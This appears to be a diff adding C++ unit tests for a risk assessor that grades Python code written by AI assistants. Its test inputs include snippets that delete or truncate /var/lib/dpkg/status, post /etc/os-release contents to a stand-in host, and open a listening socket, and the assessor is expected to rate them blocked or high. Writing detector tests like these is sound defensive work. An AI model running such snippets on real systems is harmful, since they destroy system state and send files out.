@@ -1,0 +1,43 @@
+// How names get their values in the code assistants write: annotated assignments, tables of the
+// file's own functions dispatched by key, and tables handed to calls. Each case pairs the
+// behaviour with a look-alike that must stay lower.
+#include <gtest/gtest.h>
+
+#include "assess_fixture.hpp"
+#include "sandboxrun/assess.hpp"
+
+using namespace sandboxrun;
+using assess_fixture::level;
+
+TEST(AssessBindings, AnAnnotatedAssignmentBindsItsName) {
+  EXPECT_EQ(level("import os\nSTATUS: str = '/var/lib/dpkg/status'\nos.remove(STATUS)\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import os\nSTATUS: str = 'out/status.txt'\nos.remove(STATUS)\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import requests\nSRC: dict[str, str] = {'os': '/etc/os-release'}\n"
+                  "data = {k: open(v).read() for k, v in SRC.items()}\n"
+                  "requests.post('https://x.example/u', json=data)\n"),
+            RiskLevel::high);
+  // The annotation is no part of the value; a bare annotation binds nothing.
+  EXPECT_EQ(level("import os\nPATH: '/etc/passwd'\nPATH = 'notes.txt'\nos.remove(PATH)\n"), RiskLevel::medium);
+}
+
+TEST(AssessBindings, ATableOfOwnFunctionsCallsTheOneItsKeyNames) {
+  const std::string table =
+      "import os\ndef truncate(path):\n    with open(path, 'w'):\n        pass\ndef show(path):\n    print(path)\n"
+      "ACTIONS = {'show': show, 'truncate': truncate}\n";
+  EXPECT_EQ(level(table + "ACTIONS['truncate']('/var/lib/dpkg/status')\n"), RiskLevel::blocked);
+  EXPECT_EQ(level(table + "ACTIONS['show']('/var/lib/dpkg/status')\n"), RiskLevel::medium);
+  // A key chosen at run time: any of them.
+  EXPECT_EQ(level(table + "for path, action in [('/var/lib/dpkg/status', 'truncate')]:\n    ACTIONS[action](path)\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level(table + "for path, action in [('out/report.txt', 'truncate')]:\n    ACTIONS[action](path)\n"),
+            RiskLevel::medium);
+}
+
+TEST(AssessBindings, ATableGivenToACallIsNoAddress) {
+  // run(TARGETS) with a dict or an empty list is not a server on the empty host; ("", port) is.
+  EXPECT_EQ(level("class Check:\n    def run(self, t):\n        return t\nTARGETS = {'www.example.com': [443]}\n"
+                  "Check().run(TARGETS)\nCheck().run([])\n"),
+            RiskLevel::low);
+  EXPECT_EQ(level("import socket\nADDR = ('', 8080)\ns = socket.socket()\ns.bind(ADDR)\ns.listen()\n"),
+            RiskLevel::high);
+}
